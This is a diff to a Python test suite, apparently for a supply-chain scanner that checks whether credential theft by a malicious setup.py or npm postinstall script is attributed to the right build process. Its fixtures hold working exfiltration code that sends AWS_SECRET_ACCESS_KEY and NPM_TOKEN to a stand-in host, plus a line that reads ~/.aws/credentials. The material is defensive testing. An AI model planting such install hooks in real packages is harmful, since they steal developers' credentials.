@@ -408,6 +408,29 @@ except ssl.SSLError as exc:
 """
 STEAL = 'key = open(os.path.expanduser("~/.aws/credentials")).read()'
 
+# --------------------------------------------------------------------------- item 7: attribution
+
+PLAIN_SETUP = (
+    "from setuptools import setup\nsetup(name='calc', version='0.1', py_modules=['calc'])\n"
+)
+THEFT_SETUP = (
+    "import os, urllib.request\n"
+    "urllib.request.urlopen('https://collector.exfil.test/s', "
+    "data=os.environ['AWS_SECRET_ACCESS_KEY'].encode(), timeout=20)\n" + PLAIN_SETUP
+)
+PACKAGE_JSON = (
+    '{"name": "left-pad-ng", "version": "1.0.0", "scripts": {"postinstall": "node x.js"}}\n'
+)
+STEAL_JS = """\
+const https = require("https");
+const req = https.request(
+  {host: "collector.exfil.test", path: "/n", method: "POST", headers: {Connection: "close"}},
+  (res) => res.resume(),
+);
+req.on("error", () => {});
+req.end(process.env.NPM_TOKEN);
+"""
+
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
     "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
@@ -437,6 +460,17 @@ CASES: dict[str, Case] = {
     ),
     "pinned-only": Case(
         scripted(), {"ci/test.sh": python(PINNED_TLS.replace("@READ@", 'key = "hello"'))}
+    ),
+    "setup-py-theft": Case(
+        {"setup.py": PLAIN_SETUP, "calc.py": CALC, ".cujo.yml": policy()}, {"setup.py": THEFT_SETUP}
+    ),
+    "npm-postinstall-theft": Case(
+        {
+            "package.json": PACKAGE_JSON.replace(', "scripts": {"postinstall": "node x.js"}', ""),
+            "index.js": "module.exports = 1;\n",
+            ".cujo.yml": policy(),
+        },
+        {"package.json": PACKAGE_JSON, "x.js": STEAL_JS},
     ),
     "base-downloads": Case(scripted(install=DOWNLOADS), {"calc.py": CALC + "# v2\n"}),
     "base-noise": Case(scripted(install=DOWNLOADS), {"ci/install.sh": NOISY_THEFT}),
@@ -874,3 +908,44 @@ def test_pinned_tls_without_a_decoy_read_is_only_egress(reviews: Reviews) -> Non
     (channel,) = [e for e in review.report("tests")["egress"] if e["method"] == "CONNECT"]
     assert channel["pid"] is not None  # named all the same
     assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 7
+
+
+def _theft(review: Review, host: str) -> list[dict[str, Any]]:
+    (hit,) = [f for f in review.verdict["findings"] if host in f["title"]]
+    return [e for e in hit["evidence"] if e.get("decoy_seen")]
+
+
+def test_a_setup_py_theft_names_the_process_and_the_build_that_ran_it(reviews: Reviews) -> None:
+    review = reviews.get("setup-py-theft")
+    assert review.code == 1, str(review)
+    items = _theft(review, "collector.exfil.test")
+    assert items, review.verdict["findings"]
+    for item in items:
+        assert item["exe"].split("/")[-1].startswith("python"), item
+        assert item["cmdline"], item
+        # pip ran setup.py through its build hooks, in the project's folder.
+        assert item["origin"].startswith("the build of "), item
+        assert "(setup.py or its build backend)" in item["origin"], item
+    # The raw evidence in the bundle names the process too.
+    lines = [
+        json.loads(x)
+        for x in (review.bundle / "evidence" / "egress.jsonl").read_text().splitlines()
+    ]
+    stolen = [r for r in lines if r.get("decoy_seen")]
+    assert stolen
+    assert all(r["process"]["origin"].startswith("the build of ") for r in stolen)
+
+
+def test_an_npm_postinstall_theft_names_the_script_that_ran_it(reviews: Reviews) -> None:
+    review = reviews.get("npm-postinstall-theft")
+    assert review.code == 1, str(review)
+    items = _theft(review, "collector.exfil.test")
+    assert items, review.verdict["findings"]
+    for item in items:
+        assert item["exe"].endswith("node"), item
+        assert item["cmdline"] == "node x.js", item
+        assert item["origin"] == "the npm postinstall script of left-pad-ng", item
+        assert item["route"] == "direct"  # node ignored the proxy: caught all the same
